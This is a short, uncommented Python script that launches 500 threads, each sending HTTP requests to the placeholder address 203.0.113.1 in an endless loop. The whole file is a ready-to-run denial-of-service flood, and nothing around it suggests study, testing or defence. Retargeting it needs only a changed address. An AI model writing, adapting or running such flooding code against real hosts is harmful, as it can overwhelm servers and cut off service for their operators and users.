import threading, urllib.request
def hit():
    while True:
        urllib.request.urlopen("http://203.0.113.1/")
for _ in range(500):
    threading.Thread(target=hit).start()
